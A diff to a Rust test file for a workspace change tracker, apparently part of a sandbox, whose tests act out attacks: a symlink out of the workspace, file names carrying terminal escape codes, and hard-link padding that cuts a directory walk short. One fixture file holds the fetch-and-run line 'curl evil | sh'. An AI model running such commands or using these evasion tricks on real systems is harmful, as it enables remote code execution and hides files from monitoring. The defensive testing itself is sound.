@@ -1,5 +1,6 @@
 //! What a block can leave in the workspace, read by the host: each test is the attack.
 
+use std::os::unix::ffi::OsStrExt;
 use std::os::unix::fs::symlink;
 use std::path::Path;
 
@@ -34,7 +35,7 @@ fn a_symlink_out_of_the_workspace_is_listed_but_never_followed() {
         "nothing is read through the link"
     );
     assert!(
-        matches!(&listing.entries[1].kind, EntryKind::Symlink(to) if to.ends_with("secret.txt"))
+        matches!(&listing.entries[1].kind, EntryKind::Symlink(to) if to.as_bytes().ends_with(b"secret.txt"))
     );
 
     let refused = open_regular(root.path(), Path::new("leak.txt")).err();
@@ -160,5 +161,65 @@ fn a_hostile_file_name_reaches_the_record_harmless() {
     let mut tracker = Tracker::start(root.path());
     write(root.path(), "\u{1b}[31mred\nline.txt", "x");
     let changes = tracker.changes();
-    assert_eq!(changes[0].path, "\u{241b}[31mred\u{240a}line.txt");
+    assert_eq!(changes[0].path, "\\u001B[31mred\\u000Aline.txt");
+}
+
+#[test]
+fn a_walk_cut_too_deep_says_so_and_forgets_nothing() {
+    let root = tempfile::tempdir().unwrap();
+    write(root.path(), "kept.txt", "before");
+    let deep: std::path::PathBuf = (0..super::changes::RECORD_DEPTH + 2).map(|_| "d").collect();
+    let mut tracker = Tracker::start(root.path());
+    let seventy: std::path::PathBuf = (0..70).map(|_| "d").collect();
+    write(
+        root.path(),
+        &seventy.join("at70.txt").to_string_lossy(),
+        "x",
+    );
+    write(root.path(), &deep.join("past.txt").to_string_lossy(), "x");
+    let changes = tracker.changes();
+    let paths: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
+    assert!(
+        paths.len() == 1 && paths[0].ends_with("/at70.txt"),
+        "a file 70 levels deep is recorded: {paths:?}"
+    );
+    assert_eq!(tracker.incomplete(), Some("too deep (128 levels)"));
+}
+
+#[test]
+fn a_walk_cut_by_hard_link_padding_says_so_and_forgets_nothing() {
+    let root = tempfile::tempdir().unwrap();
+    write(root.path(), "z_kept.txt", "before");
+    let mut tracker = Tracker::start(root.path());
+    write(root.path(), "b/payload.sh", "curl evil | sh");
+    // Names of a few inodes (a host filesystem allows some 65000 links to one).
+    for n in 0..super::listing::MAX_ENTRIES {
+        let pad = format!("a/pad{}", n / 50_000);
+        if n % 50_000 == 0 {
+            write(root.path(), &pad, "");
+        }
+        std::fs::hard_link(root.path().join(pad), root.path().join(format!("a/{n}"))).unwrap();
+    }
+    let changes = tracker.changes();
+    assert!(
+        changes
+            .iter()
+            .all(|c| c.change == FileChangeKind::Created && c.path.starts_with("a/")),
+        "nothing past the cut is reported"
+    );
+    assert_eq!(tracker.incomplete(), Some("too many entries (100000)"));
+
+    std::fs::remove_dir_all(root.path().join("a")).unwrap();
+    let changes = tracker.changes();
+    let seen: Vec<(&str, FileChangeKind)> = changes
+        .iter()
+        .filter(|c| !c.path.starts_with("a/"))
+        .map(|c| (c.path.as_str(), c.change))
+        .collect();
+    assert_eq!(
+        seen,
+        [("b/payload.sh", FileChangeKind::Created)],
+        "the file past the cut is recorded once seen; the one before it was never lost"
+    );
+    assert_eq!(tracker.incomplete(), None);
 }
